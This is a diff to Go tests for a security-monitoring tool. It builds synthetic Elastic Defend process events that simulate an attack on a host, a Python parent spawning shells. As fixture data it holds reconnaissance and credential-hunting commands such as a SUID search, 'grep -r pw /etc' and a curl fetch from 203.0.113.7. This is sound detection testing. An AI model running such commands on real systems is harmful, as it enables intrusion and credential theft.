@@ -19,6 +19,7 @@ import (
 	"os/exec"
 	"path/filepath"
 	"regexp"
+	"slices"
 	"strings"
 	"sync"
 	"testing"
@@ -220,7 +221,7 @@ func startVigil(t *testing.T) *vigil {
 		}
 		time.Sleep(10 * time.Millisecond)
 	}
-	v.ingest(t, append(sampleEvents(t), xssAttack()...))
+	v.ingest(t, slices.Concat(sampleEvents(t), xssAttack(), investigated()))
 	return v
 }
 
@@ -283,6 +284,15 @@ func sampleEvents(t *testing.T) []byte {
 	return b
 }
 
+// investigatedHost holds the attack TestConsole investigates: attack's
+// lineage and seven shells, a tree whose every node has its own event.
+const investigatedHost = "jump-04"
+
+func investigated() []byte {
+	return attack(investigatedHost, time.Date(2026, 11, 20, 9, 50, 0, 0, time.UTC),
+		"whoami", "uname -a", "id", "env | sort", "find / -perm -4000", "curl -s http://203.0.113.7/x", "grep -r pw /etc")
+}
+
 // xssAttack is the seed rule's attack on xss-host, two of whose command
 // lines are markup.
 func xssAttack() []byte {
@@ -290,26 +300,57 @@ func xssAttack() []byte {
 		"whoami", "uname -a", "id", "env | sort", "find / -perm -4000", imgPayload+" curl x", scriptPayload+" grep -r pw /etc")
 }
 
-// attack is the seed rule's attack (a Python parent with seven shell
-// children running cmds) on host from base on, a second apart.
+// attack is the seed rule's attack on host as Elastic Defend records it:
+// the exec events of the Python parent's lineage (systemd → sshd → bash,
+// before base) and of the parent itself, then seven shell children running
+// cmds from base on, a second apart, each with the full ancestry (parent
+// first).
 func attack(host string, base time.Time, cmds ...string) []byte {
+	type proc struct {
+		id, name, exe, user string
+		args                []string
+		pid                 int
+	}
+	lineage := []proc{
+		{host + "-systemd", "systemd", "/usr/lib/systemd/systemd", "root", []string{"/sbin/init"}, 1},
+		{host + "-sshd", "sshd", "/usr/sbin/sshd", "root", []string{"/usr/sbin/sshd", "-D"}, 812},
+		{host + "-bash", "bash", "/bin/bash", "dev", []string{"-bash"}, 4100},
+		{host + "-parent", "python3", "/usr/bin/python3", "dev", []string{"python3", "/tmp/.x/agent.py"}, 4200},
+	}
+	fields := func(p proc) map[string]any {
+		return map[string]any{"entity_id": p.id, "name": p.name, "executable": p.exe, "pid": p.pid,
+			"args": p.args, "command_line": strings.Join(p.args, " "), "user": map[string]any{"name": p.user}}
+	}
 	var b bytes.Buffer
-	for i, c := range cmds {
+	event := func(t time.Time, p proc, ancestors []proc) {
+		pf := fields(p)
+		var ancestry []string
+		for i := len(ancestors) - 1; i >= 0; i-- {
+			ancestry = append(ancestry, ancestors[i].id)
+		}
+		if len(ancestors) > 0 {
+			pf["parent"] = fields(ancestors[len(ancestors)-1])
+			pf["Ext"] = map[string]any{"ancestry": ancestry}
+		}
 		m := map[string]any{
-			"@timestamp":  base.Add(time.Duration(i) * time.Second).Format("2006-01-02T15:04:05.000Z"),
+			"@timestamp":  t.Format("2006-01-02T15:04:05.000Z"),
 			"data_stream": map[string]any{"type": "logs", "dataset": "endpoint.events.process", "namespace": "default"},
 			"event":       map[string]any{"action": "exec", "type": []string{"start"}, "category": []string{"process"}, "dataset": "endpoint.events.process"},
 			"host":        map[string]any{"name": host, "os": map[string]any{"type": "linux"}},
 			"agent":       map[string]any{"id": "agent-" + host},
-			"process": map[string]any{
-				"name": "sh", "executable": "/bin/sh", "command_line": "sh -c " + c, "args": []string{"sh", "-c", c}, "pid": 5000 + i,
-				"entity_id": fmt.Sprintf("%s-child-%d", host, i),
-				"parent":    map[string]any{"name": "python3", "entity_id": host + "-parent", "executable": "/usr/bin/python3"},
-			},
+			"user":        map[string]any{"name": p.user},
+			"process":     pf,
 		}
 		line, _ := json.Marshal(m)
 		b.Write(line)
 		b.WriteByte('\n')
+	}
+	for i, p := range lineage {
+		event(base.Add(time.Duration(i-len(lineage))*time.Minute), p, lineage[:i])
+	}
+	for i, c := range cmds {
+		event(base.Add(time.Duration(i)*time.Second),
+			proc{fmt.Sprintf("%s-child-%d", host, i), "sh", "/bin/sh", "dev", []string{"sh", "-c", c}, 5000 + i}, lineage)
 	}
 	return b.Bytes()
 }
